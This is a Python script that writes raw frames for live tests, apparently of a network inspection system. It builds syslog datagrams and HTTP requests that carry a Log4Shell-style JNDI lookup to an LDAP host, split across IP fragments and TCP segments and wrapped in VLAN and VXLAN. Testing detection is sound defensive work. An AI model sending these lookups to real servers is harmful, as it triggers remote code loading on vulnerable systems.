#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""frames.py WHAT NAME [ARGUMENT]: frames for the live tests, written to interfaces as they are.

share NAME IF1,IF2   for 24 host pairs and each wrapping: a lookup in a UDP datagram of three fragments, cut in the middle
                     of the lookup, and one in a TCP request of three segments whose answers come on the second interface
                     (both on the first when there is one). The lookups end in /NAME-<number>; prints how many.
one NAME IF          a single datagram with a lookup that ends in /NAME
flood N IF           N datagrams without one
mirror NAME IF,MAC,ADDRESS   a lookup inside VXLAN to that host
"""
import socket
import struct
import sys

PAIRS = 24


def ipv4(source, target, protocol, data, place=0, ident=7):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), ident, place, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xffff) + (total >> 16)
    total = ~((total & 0xffff) + (total >> 16)) & 0xffff
    return head[:10] + struct.pack("!H", total) + head[12:] + data


def udp(sport, dport, data):
    return struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data


def tcp(sport, dport, seq, ack, flags, data=b""):
    return struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64000, 0, 0) + data


def ethernet(kind, data, target=b"\2\0\0\0\0\2"):
    return target + b"\2\0\0\0\0\1" + struct.pack("!H", kind) + data


def plain(packet, n):
    return ethernet(0x0800, packet)


def vlan(packet, n):
    return ethernet(0x8100, struct.pack("!HH", 100, 0x0800) + packet)


def double_vlan(packet, n):
    return ethernet(0x88a8, struct.pack("!HHHH", 20, 0x8100, 30, 0x0800) + packet)


def vxlan(packet, n, target=b"\2\0\0\0\0\2", address="192.0.2.9", source="192.0.2.1"):
    """The outer ports differ from packet to packet, and the outer hosts from pair to pair do not."""
    inner = struct.pack("!B3xI", 8, 77 << 8) + plain(packet, n)
    return ethernet(0x0800, ipv4(source, address, 17, udp(20000 + n, 4789, inner)), target)


WRAPPINGS = (plain, vlan, double_vlan, vxlan)


def lookup(name):
    return b"${jndi:ldap://203.0.113.9:1389/" + name.encode() + b"}"


def fragments(source, target, ident, data):
    """Three fragments, cut at a third and at two thirds."""
    cuts = [0, len(data) // 3 & ~7, len(data) * 2 // 3 & ~7, len(data)]
    for i in range(3):
        more = 0x2000 if i < 2 else 0
        yield ipv4(source, target, 17, data[cuts[i]:cuts[i + 1]], more | cuts[i] // 8, ident)


def datagram(client, server, ident, name):
    text = b"<13>Dec 10 10:00:00 app login: " + lookup(name)
    yield from ((0, piece) for piece in fragments(client, server, ident, udp(40000, 514, text)))


def conversation(client, server, port, name):
    """(side, packet): the answers come on side 1."""
    request = b"GET / HTTP/1.1\r\nHost: shop\r\nX-Api: " + lookup(name) + b"\r\n\r\n"
    third = len(request) // 3
    pieces = [request[:third], request[third:2 * third], request[2 * third:]]
    yield 0, ipv4(client, server, 6, tcp(port, 8080, 999, 0, 2))
    yield 1, ipv4(server, client, 6, tcp(8080, port, 4999, 1000, 0x12))
    at = 1000
    for piece in pieces:
        yield 0, ipv4(client, server, 6, tcp(port, 8080, at, 5000, 0x18, piece))
        at += len(piece)
        yield 1, ipv4(server, client, 6, tcp(8080, port, 5000, at, 0x10))


def share(name, sockets):
    n = 0
    for pair in range(PAIRS):
        for w, wrap in enumerate(WRAPPINGS):
            client, server = f"10.{w}.1.{pair + 1}", f"10.{w}.2.{pair + 1}"
            for packets in (datagram(client, server, 1000 + n, f"{name}-{n}"),
                            conversation(client, server, 30000 + n, f"{name}-{n + 1}")):
                for i, (side, packet) in enumerate(packets):
                    sockets[side % len(sockets)].send(wrap(packet, i))
            n += 2
    print(n)


def main(what, name, argument):
    interface, *more = argument.split(",")
    sockets = []
    for i in [interface] if what == "mirror" else argument.split(","):
        sockets.append(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
        sockets[-1].bind((i, 0))
    if what == "share":
        share(name, sockets)
    elif what == "one":
        sockets[0].send(plain(ipv4("10.0.1.1", "10.0.2.1", 17, udp(40001, 514, b"<13>app: " + lookup(name))), 0))
    elif what == "flood":
        frames = [plain(ipv4(f"10.0.1.{i + 1}", "10.0.2.1", 17, udp(40000, 514, b"<13>app: all is well")), 0)
                  for i in range(16)]
        for i in range(int(name)):
            sockets[0].send(frames[i % 16])
    elif what == "mirror":
        packet = ipv4("10.0.1.1", "10.0.2.1", 17, udp(40002, 514, b"<13>app: " + lookup(name)))
        mac = bytes.fromhex(more[0].replace(":", ""))
        source = more[1].rsplit(".", 1)[0] + ".1"
        sockets[0].send(vxlan(packet, 0, mac, more[1], source))
    else:
        sys.exit(__doc__)


main(*sys.argv[1:4])
